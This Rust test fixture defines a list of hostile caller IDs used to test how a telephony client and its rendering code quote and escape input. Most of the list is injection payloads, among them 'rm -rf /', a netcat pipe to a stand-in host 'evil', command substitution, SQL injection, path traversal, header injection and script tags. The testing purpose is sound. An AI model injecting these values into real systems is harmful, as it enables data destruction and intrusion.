//! The corpus of hostile caller IDs: what a caller can put in `From`
//! and `P-Asserted-Identity` to break a request, a command line, a log line
//! or a shell. Used by bb-cti's rendering tests and by the Wine tests of
//! `bbclient.exe`'s command quoting.

/// Every hostile caller ID, in a fixed order.
pub fn caller_ids() -> Vec<String> {
    let mut v: Vec<String> = [
        "",
        "\"",
        "'",
        "\";calc;\"",
        "'; DROP TABLE calls; --",
        "0901;rm -rf /",
        "a&b=c",
        "&&",
        "x=y&number=evil",
        "| nc evil 4444",
        "`id`",
        "$(id)",
        "${IFS}",
        "%",
        "%25",
        "%00",
        "%OpPW%",
        "%CallerNumber%",
        "100%%",
        "%PATH%",
        "^&calc",
        "a b  c",
        " ",
        "line1\nline2",
        "\r\nX-Injected: 1",
        "\0",
        "nul\0in the middle",
        "\u{202e}evil",
        "山田太郎",
        "０９０１２３４５６７８",
        "😀",
        "+81 3-1234-5678",
        "#",
        "?x=1#frag",
        "/../../etc/passwd",
        "..\\..\\windows",
        "--help",
        "-rf",
        "- -",
        "<script>alert(1)</script>",
        "\\\"",
        "\\",
        "\t",
        "*",
        "~",
        "!",
        ">out",
        "<in",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    v.push("9".repeat(1024));
    v.push("&=".repeat(512));
    v.push("あ".repeat(1024));
    v.push(";".repeat(1024));
    v
}
